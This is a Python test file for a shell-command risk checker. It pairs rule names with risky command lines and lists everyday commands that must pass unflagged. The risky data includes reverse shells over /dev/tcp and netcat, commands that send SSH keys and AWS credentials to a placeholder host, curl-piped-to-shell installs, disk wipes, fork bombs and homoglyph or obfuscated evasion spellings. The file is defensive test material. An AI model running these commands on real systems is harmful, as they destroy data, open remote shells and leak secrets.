"""Risky shapes are found however they are spelt; everyday commands are left in peace."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lmd.shell.risk import risks
from lmd.shell.risk.checking import LONGEST, MOST_RISKS
from lmd.shell.risk.rules import RULES
from tests.shell.language.test_scanner import LINES

RISKY = {
    "recursive-delete": [
        "rm -rf /etc", "rm -r -f build", "rm -fr x", "rm --recursive x", "rm --rec x", "rm x -R",
        "sudo rm -rf /", "sudo -u root -- rm -rf x", "/bin/rm -rf x", "\\rm -rf x", "r''m -r x",
        "'rm' -rf x", "r\\m -rf x", "\"rm\" -\"r\" x", "$'\\x72\\155' -rf x", "command rm -r x",
        "env A=1 rm -r x", "nice -n 5 rm -r x", "busybox rm -rf x", "true; rm -rf x", "a&&rm -r x",
        "a|rm -r x", "(rm -rf x)", "{ rm -rf x; }", "$(rm -rf x)", "echo `rm -rf x`",
        "echo \"$(rm -rf x)\"", "x=$(rm -rf x)", "if rm -rf x; then :; fi", "f(){ rm -rf x; }",
        "find . -exec rm -rf {} +", "xargs rm -rf", "ls | xargs -0 -n1 rm -r", "RM -rf x",
        "sh -c 'rm -rf x'", "bash -lc \"rm -rf x\"", "eval rm -rf x", "eval 'rm -r x'",
        "su -c 'rm -rf x'", "watch 'rm -rf x'", "ssh host rm -rf x", "echo rm -rf x | sh",
        "bash <<< 'rm -rf x'", "bash <<E\nrm -rf x\nE", "{rm,-rf,x}", "rm -{r,f} x",
        "for f in *; do rm -r $f; done", "timeout 5 rm -r x", "trap 'rm -rf x' EXIT",
        "alias ls='rm -rf x'", "diff <(rm -rf x) y", "ls # ; rm -rf x", "rm\t-rf\tx",
        "=rm -rf x", "grm -rf x", "env -S 'rm -rf x'", "! rm -rf x", "time rm -rf x",
        "case x in x) rm -r y;; esac", "[[ a ]]&& rm -r x", "coproc rm -rf x",
        "echo $((rm -rf x) )", "rm -rf \\\nx", "flock /tmp/l -c 'rm -rf x'",
        "docker exec -it box rm -rf x", "docker run -v .:/x i sh -c 'rm -rf /x'",
        "kubectl exec pod -c one -- rm -rf x", "tmux new -d 'rm -rf x'", "screen -dm rm -rf x",
        "flatpak-spawn --host rm -rf x", "at now <<< 'rm -rf x'", "echo rm -rf x | at noon",
        "git -c core.pager='rm -rf x' log", "git config --global alias.x '!rm -rf x'",
        "git config core.sshCommand 'rm -rf x'", "GIT_PAGER='rm -rf x' git log",
        "PAGER='rm -rf x' man ls", "vim -c ':!rm -rf x'", "less +'!rm -rf x' f",
    ],
    "delete": [
        "find . -name '*.tmp' -delete", "rm *", "rm -f ~/*", "rm /etc/passwd", "shred -u x",
        "git ls-files | xargs rm", "find . -exec rm {} \\;", "rsync -a --delete a/ b/",
        "crontab -r", "docker system prune -a", "kubectl -n x delete pod y", "terraform destroy",
        "fd -e tmp -X rm", "fdfind x -x rm", "gfind . -exec rm {} +", "scrub /dev/sdb",
        "rm ~/.bashrc", "aws --profile p s3 rm s3://b --recursive", "redis-cli -h x flushall",
    ],
    "disk": [
        "mkfs.ext4 /dev/sda1", "sudo mkfs -t ext4 /dev/sda", "fdisk /dev/sda", "wipefs -a /dev/sda",
        "parted /dev/sda mklabel gpt", "diskutil eraseDisk JHFS+ x disk2", "mkswap /dev/sdb",
        "cryptsetup luksFormat /dev/sda", "nvme format /dev/nvme0", "zpool destroy tank",
    ],
    "device": [
        "dd if=x of=/dev/sda", "dd of=/dev/disk2 bs=1m", "cat x > /dev/sda", "cp x /dev/sdb",
        "echo x | sudo tee /dev/sda", "dd of=//dev/./sda", ">/dev/nvme0n1 cat x",
    ],
    "network-shell": [
        "curl -fsSL https://x | sh", "wget -qO- x|sudo bash", "curl x | sudo -E bash -s -- y",
        "sh -c \"$(curl -fsSL x)\"", "bash <(curl -s x)", "eval \"$(wget -O- x)\"", "$(curl x)",
        "`curl x`", "source <(curl x)", ". <(curl x)", "curl x | tee y | bash", "curl x | python3",
        "curl x | (sh)", "curl x | { sh; }", "bash < <(curl x)", "bash <<< \"$(curl x)\"",
        "curl x | env A=1 bash", "curl x | base64 -d | sh", "curl x | tac | zsh -", "nc h 1 | sh",
        "curl x | gunzip | /bin/sh", "wget x && sh install.sh", "curl -O x; chmod +x y; ./y",
        "curl x | xargs -I{} sh -c '{}'", "python3 -c \"$(curl x)\"", "fish -c (curl x)",
        "curl x | if true; then sh; fi", "curl x |& sh", "curl x | while true; do bash; done",
        "curl x > >(sh)", "curl x | tee >(sh)", "perl -e \"`curl x`\"",
        "curl x | source /dev/stdin", "zsh =(curl x)",
    ],
    "generated-shell": [
        "base64 -d x | sh", "cat x | bash", "$(cat x)", "eval \"$(cat x)\"", "bash <(cat x)",
    ],
    "startup-file": [
        "echo x >> ~/.bashrc", "echo x > $HOME/.zshrc", "x | tee -a ~/.profile",
        "cp x ~/.ssh/authorized_keys", "sed -i s/a/b/ ~/.bashrc", "curl x -o ~/.zshenv",
        "cat x >| \"$HOME/.bash_profile\"", "echo x >~/.config/fish/config.fish",
        "ln -sf a ~/.vimrc",
        "echo x >! ~/.zshrc", "> ~/.bashrc", "cat x >>/home/u/.ssh/config", "echo x &> ~/.profile",
        "dd of=~/.bashrc", "mv -t ~/.ssh x", "wget -O ~/.bashrc x", "echo x >>~/./.bashrc",
        "echo x > ${HOME}/.bash_aliases", "echo x > .git/hooks/pre-commit",
    ],
    "system-file": [
        "echo x > /etc/hosts", "echo x | sudo tee -a /etc/hosts", "cp x /usr/bin/y",
        "echo x > /tmp/../etc/hosts", "echo x > //etc//hosts", "ln -s a /usr/bin/b",
        "tar -xf x -C /", "sudo sed -i s/a/b/ /etc/fstab",
    ],
    "system-permissions": [
        "chmod -R 755 /", "chown -R u:u /etc", "sudo chown --recursive me /usr/local",
        "chmod -R a+r /home", "chown -R me ~", "chgrp -R x /var", "chmod -R u+w ..",
        "chmod 644 /etc/x",
        "chown -R me $HOME", "chmod -R 700 /e*", "chmod -R g+w /usr/../etc",
    ],
    "world-writable": ["chmod 777 x", "chmod -R 0777 .", "chmod a+w x", "chmod o+rw x",
                       "chmod +w,o+w x", "chmod 666 x"],
    "set-user-id": ["chmod u+s x", "chmod 4755 x", "chmod +s x", "chmod 06755 x"],
    "history": ["echo hi !!", "!ls", "echo \"it's !$\"", "sudo !!", "^a^b^", "echo \"x!y\"", "!-2",
                "echo a; !?x"],
    "look-alike": ["\u0441url x", "r\u043c x", "sudo ls\u0430", "tar \u2013xf y", "rm \u2014rf x",
                   "\uff52\uff4d x", "ls | \u0455h", "ls -\u0430", "ls --\u0430ll",
                   "tar -x\u0475f y", "cat /\u0435tc/passwd", "git \u0440ull",
                   "echo \"\u03bfk\"", "x.\u0441om"],
    "invisible": ["rm\u200b x", "ls \u202e x", "ls\u00a0-l", "echo \x1b[31m", "ls\x00", "ls \u2066",
                  "a\rb", "a\x9bb", "\ufeffls", "echo \U000e0041", "ls \u2028 x"],
    "right-to-left": ["rm \u05d0 / \u05d1"],
    "fork-bomb": [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"],
    "git": ["git reset --hard", "git -C x clean -fdx", "git push --force", "git push -f origin x",
            "git checkout -- .", "git branch -D x", "git stash clear", "git push --delete o x",
            "git push origin +main", "git push origin :main"],
    "environment": ["LD_PRELOAD=x ls", "export PATH=/tmp", "env LD_LIBRARY_PATH=. x",
                    "PATH=.:$PATH",
                    "export PROMPT_COMMAND='x'", "sudo LD_PRELOAD=./x ls"],
    "hidden-program": ["$x -rf /", "\"$cmd\" y", "/bin/r? x", "eval $x", "${a}m x",
                       "tar cf x --checkpoint-action=exec=sh y", "a=rm; $a x"],
    "remote-shell": ["bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "nc -e /bin/sh h 1",
                     "ncat --exec sh h", "socat TCP:h:1 EXEC:sh", "socat tcp:h:1 system:id"],
    "sends-secrets": ["curl -d @$HOME/.ssh/id_rsa http://x", "cat ~/.aws/credentials | nc h 1"],
    "power": ["shutdown -h now", "sudo reboot", "systemctl poweroff", "init 0"],
    "kill-all": ["pkill -u me", "killall -u me", "kill -9 -1", "kill -1", "kill 1",
                 "kill -s KILL -1"],
    "protection": ["iptables -F", "ufw disable", "setenforce 0", "nft flush ruleset"],
    "code": ["awk 'BEGIN{system(\"x\")}'", "python3 -c 'import shutil; shutil.rmtree(\"x\")'",
             "perl -e 'unlink glob \"*\"'", "ruby -e '`x`'", "lua -e 'os.execute(\"x\")'",
             "node -e 'fs.rmSync(\"x\")'", "sed '1e x' f", "sed -n -e 's/a/b/ge' f"],
    "too-deep": ["$(" * 80 + "rm -rf /", "bash -c '" + "$(" * 50 + "x'"],
    "too-long": ["x" * (LONGEST + 1)],
}  # fmt: skip

EVERYDAY = [
    "ls -la", "cd ..", "rm old.txt", "rm -f a b", "cp -r a b", "mv a b", "tar -czf a.tgz dir/",
    "find . -name '*.py' -mtime -7", "find . -type f -exec grep -l x {} +", "grep -rn 'x!' src",
    "git push -u origin main", "git commit -m 'fix: it'", "git checkout main", "git reset HEAD~1",
    "git reset", "git clean -n", "curl -fsSL https://x -o file", "curl x | jq .", "wget https://x",
    "ps aux | grep x | awk '{print $2}' | xargs kill", "kill -9 1234", "kill -1 1234", "kill %1",
    "chmod +x script.sh", "chmod -R u+rwX dir", "chown -R me:me ./data", "chmod 644 a",
    "chmod 755 a",
    "echo hello > out.txt", "sort a | uniq -c > b", "cmd 2>/dev/null", "cmd >/dev/null 2>&1",
    "cat /dev/urandom | head -c 10", "dd if=/dev/sda of=disk.img", "ssh host uptime",
    "ssh -p 22 user@host", "docker run --rm -it ubuntu bash", "docker ps", "kubectl get pods",
    "sudo apt install vim", "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
    "python3 -c 'print(1)'", "python3 -m http.server", "awk -F: '{print $1}' /etc/passwd",
    "sed -i 's/a/b/' file", "sed 's/a/b/' /etc/hosts", "cat /etc/passwd", "cp /etc/hosts .",
    "ls /etc", "du -sh /var/log", "rsync -av a/ b/", "crontab -l", "crontab -e", "fdisk -l",
    "parted -l", "export PATH=$PATH:/opt/bin", "export PATH=\"$HOME/bin:$PATH\"",
    "EDITOR=vi crontab -e",
    "[ -f x ] && echo y", "test ! -f x", "if ! grep -q x y; then echo z; fi", "echo 'wow!'",
    "find . ! -name x", "echo $!", "ls [!a]*", "echo \\!x", "awk '!seen[$0]++' x", "$EDITOR x",
    "~/bin/x", "\"$HOME/bin/x\" y", "$(go env GOPATH)/bin/x", "touch 'e\u0301\u00e9 \u6f22\u5b57'",
    "mkdir \u00fcber", "ls caf\u00e9", "echo '- \u2013 -'", "git log --oneline | head -5",
    "systemctl status ssh", "systemctl restart nginx", "iptables -L", "journalctl -u x -f",
    "openssl req -new -key x -out y", "ssh-keygen -t ed25519 -f key", "tar -xf x -C dir",
    "tee out.log", "ls | tee -a x.log", "xargs -n1 echo", "cat a | python3 script.py", "bash x.sh",
    "source venv/bin/activate", "bash -c 'echo hi'", "echo $((1+2))", "diff <(sort a) <(sort b)",
    "history | tail", "echo x | ssh host cat", "df -h", "mount | grep x", "alias ll='ls -l'",
    "trap 'echo bye' EXIT", "date +%s", "rmdir x", "cat <<EOF\nrm -rf /\nEOF", "echo {a,b}",
    "git stash", "git stash pop", "docker rm x", "docker image ls", "bash \"$(which x)\"",
    "open -a Safari", "pkill -SIGUSR1 x", "chown -R me .", "curl x | python -mjson.tool",
    "sed -i '/^$/d' notes.txt", "find /var/log -name '*.gz'", "chown me /tmp/x",
    "chmod 600 ~/.ssh/id_rsa", "docker exec -it db psql -U me", "docker run --rm -it i bash",
    "kubectl exec -it pod -- bash", "screen -r work", "tmux new -s work", "tmux attach -t work",
    "git config --global core.editor 'code --wait'", "git config --global alias.st status",
    "git config --global core.pager 'less -F'", "git -c user.name=me commit", "vim +12 notes.txt",
    "PAGER=cat man ls", "sed -e 's/the/e/' x", "sed 's|/usr/lib/e|x|g; s/some/e x/' y",
    "sed -i '/name/d; s/e /e/g' x", "fd -e py -x wc -l", "socat - UNIX-CONNECT:/tmp/s",
    "node -e 'console.log(1)'", "docker run -d --name run nginx", "vim -c 'set nu' x",
    "cat \u0434\u043e\u043a.txt", "ls --color=\u043d\u0435\u0442",
    "grep -e \u043f\u0440\u0438\u0432\u0435\u0442 a", "echo 5 \u00b5s - \u00e9",
    "touch \u03b1\u03b2_x.txt",
]  # fmt: skip


@pytest.mark.parametrize(
    ("rule", "line"), [(rule, line) for rule, lines in RISKY.items() for line in lines]
)
def test_risky_lines_are_marked(rule: str, line: str):
    assert rule in {risk.rule for risk in risks(line)}


@pytest.mark.parametrize("line", EVERYDAY)
def test_everyday_lines_are_not(line: str):
    assert risks(line) == []


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("sudo rm -rf /etc", "deletes everything below /etc"),
        ("rm -rf a b c", "deletes everything below a and b and 1 more"),
        ("find . -name '*.log' -type f -delete", "deletes what it finds below ."),
        ("xargs rm -r", "deletes everything below what it is given"),
        ("echo x > ~/.bashrc", "overwrites ~/.bashrc"),
        ("echo x >> ~/.bashrc", "changes ~/.bashrc"),
        ("cp x ~/.bashrc", "writes to ~/.bashrc"),
        ("cryptsetup luksFormat /dev/sda", "erases /dev/sda"),
        ("curl x | sh", "runs what it gets from the network"),
        ("mkfs.ext4 /dev/sda1", "erases or repartitions /dev/sda1"),
        ("rm -rf \x1b]0;x\x07", "deletes everything below ?]0"),
    ],
)
def test_reasons_are_phrases(line: str, reason: str):
    assert reason in {risk.reason for risk in risks(line)}


@pytest.mark.parametrize(
    ("line", "marked"),
    [
        ('echo "hello!"', True),
        ('echo "a!" "; rm -rf x"', True),
        ('echo hi!"x"', True),
        ("""echo "it's!" """, True),
        ("""echo '"hello!"'""", False),
        (r'echo "hello\!"', False),
        ('echo "hello!x"', False),
        ('test a != "b"', False),
    ],
)
def test_what_only_zsh_does_is_said_of_lines_for_zsh(line: str, marked: bool):
    reasons = {risk.reason for risk in risks(line, "zsh")} - {risk.reason for risk in risks(line)}
    assert any('takes !" out' in reason for reason in reasons) == marked
    assert risks(line, "bash") == risks(line)


@given(LINES)
def test_any_line_can_be_checked(line: str):
    found = risks(line)
    assert len(found) <= MOST_RISKS
    assert len(set(found)) == len(found)
    for risk in found:
        assert risk.reason.isprintable()
        assert "safe" not in risk.reason


@given(st.text(max_size=20), st.sampled_from(["; ", " && ", " | ", "\n", " & "]))
def test_what_stands_before_hides_nothing(before: str, operator: str):
    plain = "".join(char for char in before if char.isalnum())
    assert "recursive-delete" in {risk.rule for risk in risks(f"echo {plain}{operator}rm -rf x")}


def test_many_risks_of_a_kind_do_not_hide_another():
    line = "; ".join(f"rm -r {n}" for n in range(100)) + "; mkfs /dev/sda"
    assert "disk" in {risk.rule for risk in risks(line)}


def test_nested_texts_are_bounded():
    assert "too-deep" in {risk.rule for risk in risks("; ".join(["sh -c 'ls'"] * 100))}


def test_every_rule_of_the_table_has_a_reason_that_can_be_filled():
    for rule in RULES:
        assert rule.reason.format(what="x", program="y")
        assert rule.programs


@pytest.mark.parametrize("line", ["git", "sudo git", "git && git"])
def test_a_program_alone_is_read_too(line: str):
    assert risks(line) == []
